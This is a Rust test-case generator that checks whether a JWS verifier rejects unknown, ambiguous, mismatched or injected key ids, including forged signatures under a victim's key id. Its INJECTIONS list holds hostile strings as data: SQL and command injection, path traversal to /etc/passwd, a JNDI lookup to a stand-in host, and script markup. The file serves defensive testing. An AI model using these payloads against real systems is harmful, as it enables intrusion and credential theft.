//! Key ids: a name to look up among the keys that are bound, and nothing else.

use super::{Family, Subject};
use crate::exam::task::Bound;
use crate::make::case::Book;
use crate::make::keys::{Key, set};
use serde_json::json;

/// Ids that were once a query, a path, an address, a command or a line of a log.
#[rustfmt::skip]
const INJECTIONS: &[(&str, &str)] = &[
    ("empty", ""), ("space", " "), ("path", "../../../../dev/null"), ("path-absolute", "/proc/sys/kernel/randomize_va_space"),
    ("path-windows", "..\\..\\keys"), ("path-encoded", "%2e%2e%2fkeys"), ("sql", "x' UNION SELECT 'key';--"), ("sql-true", "' OR '1'='1"),
    ("command", "|/bin/cat /etc/passwd"), ("command-dollar", "$(id)"), ("template", "{{7*7}}"), ("lookup", "${jndi:ldap://stranger.example/a}"),
    ("address", "https://stranger.example/key"), ("address-file", "file:///etc/passwd"), ("log-line", "a\nINFO granted"), ("log-return", "a\rb"),
    ("terminal", "\u{1b}[2J"), ("markup", "<script>alert(1)</script>"), ("nul", "KID\0"), ("space-behind", "KID "), ("space-before", " KID"),
    ("wide", "\u{ff4b}id"), ("hyphen", "owner\u{2011}1"), ("accent", "owner-1\u{301}"), ("turned", "\u{202e}1-renwo"), ("star", "*"), ("any", "%"),
    ("slash-behind", "KID/"), ("object", "{\"kty\":\"oct\"}"), ("comma", "KID,stranger-1"), ("equals", "kid=KID"), ("long", "LONG"),
];

/// Ids of the right form that are the id of no key here.
const OTHERS: &[(&str, &str)] = &[
    ("one-more", "KID1"),
    ("dot-behind", "KID."),
    ("capitals", "UPPER"),
    ("one-less", "LESS"),
    ("longest", "LONGEST"),
    ("null-word", "null"),
    ("undefined", "undefined"),
    ("zero", "0"),
    ("thumbprint", "PRINT"),
];

pub(super) fn book() -> Book {
    let title = "Key ids: unknown, ambiguous, missing, and what some took for a query or a path";
    let mut family = Family::new("jose/kid", title, "FW-02 A3");
    for subject in Subject::two() {
        for (id, kid) in INJECTIONS {
            let says = "The key id is no key id: it is compared and used for nothing else.";
            one(&mut family, &subject, &format!("text-{id}"), says, kid);
        }
        for (id, kid) in OTHERS {
            let says = "The key id is not octet for octet that of a bound key.";
            one(&mut family, &subject, &format!("other-{id}"), says, kid);
        }
        let stranger = Key::named("stranger-1");
        let mut header = subject.header();
        header["kid"] = json!(stranger.kid());
        header["alg"] = json!(stranger.alg());
        let mut jws = subject.with_header(&header);
        jws.signatures.clear();
        jws.sign(&stranger, &header);
        let says = "A stranger signs under the stranger's own key id.";
        family.jws(&subject, "stranger", "P1", says, &jws, "jws_kid_unknown");
        let mut jws = subject.sealed();
        jws.signatures.clear();
        let mut header = subject.header();
        header["alg"] = json!(stranger.alg());
        jws.sign(&stranger, &header);
        // Where the algorithms differ, that is seen first.
        let code = if stranger.alg() == subject.key.alg() {
            "jws_signature_invalid"
        } else {
            "jws_alg_mismatch"
        };
        let says = "A stranger signs under the key id of the victim.";
        family.jws(&subject, "victims-name", "P1", says, &jws, code);
    }
    bindings(&mut family);
    family.into_book()
}

fn one(family: &mut Family, subject: &Subject, id: &str, says: &str, kid: &str) {
    let right = subject.key.kid();
    let kid = match kid {
        "LONG" => "k".repeat(129),
        "LONGEST" => "k".repeat(128),
        "UPPER" => right.to_uppercase(),
        "LESS" => right.get(..right.len() - 1).unwrap().to_owned(),
        "PRINT" => subject.key.thumbprint(),
        kid => kid.replace("KID", right),
    };
    let mut header = subject.header();
    header["kid"] = json!(kid);
    let jws = subject.with_header(&header);
    family.jws(subject, id, "", says, &jws, "jws_kid_unknown");
}

/// Which keys are looked at at all.
fn bindings(family: &mut Family) {
    let named =
        |owner: Option<&[&str]>, operator: Option<&[&str]>, service: Option<&[&str]>| Bound {
            owner: owner.map(set),
            operator: operator.map(set),
            service: service.map(set),
            sink: None,
        };
    let owner = &["owner-1"][..];
    let status = || Subject::status();
    let two = Bound {
        operator: Some(
            json!({ "keys": [Key::named("operator-status-1").called("owner-1").jwk()] }),
        ),
        ..named(Some(owner), None, None)
    };
    let elsewhere = Bound {
        service: Some(json!({ "keys": [Key::named("sink-1").called("owner-1").jwk()] })),
        ..named(Some(owner), None, None)
    };
    #[rustfmt::skip]
    let rows = [
        ("bound-to-nobody", "No key is bound to anybody.", Bound::default(), "jws_kid_unknown"),
        ("bound-elsewhere", "The key is bound to a party that may not sign this.", named(None, None, Some(owner)), "jws_kid_unknown"),
        ("bound-to-another", "Another key is bound to the owner.", named(Some(&["owner-2"]), None, None), "jws_kid_unknown"),
        ("two-parties", "Keys of two parties that may sign have one id.", two, "jws_kid_ambiguous"),
        ("other-party", "A party that may not sign has a key of the same id: it is not looked at.", elsewhere, ""),
        ("bound-with-others", "The key is bound among others.", named(Some(&["owner-2", "owner-1"]), Some(&["operator-status-1"]), None), ""),
    ];
    for (id, says, keys, code) in rows {
        let subject = status().bound(keys);
        let jws = subject.sealed();
        family.jws(&subject, id, "P1 A13", says, &jws, code);
    }
    // A key of the same numbers under another id is not what the header names.
    let renamed = Bound {
        owner: Some(json!({ "keys": [Key::named("owner-1").called("owner-9").jwk()] })),
        ..Bound::default()
    };
    let subject = status().bound(renamed);
    let says = "The right key is bound under another id than the header names.";
    family.jws(
        &subject,
        "key-renamed",
        "P1",
        says,
        &subject.sealed(),
        "jws_kid_unknown",
    );
    let swapped = Bound {
        owner: Some(json!({ "keys": [Key::named("owner-2").called("owner-1").jwk()] })),
        ..Bound::default()
    };
    let subject = status().bound(swapped);
    let says = "Another key is bound under the id that the header names.";
    family.jws(
        &subject,
        "key-swapped",
        "P1",
        says,
        &subject.sealed(),
        "jws_alg_mismatch",
    );
}
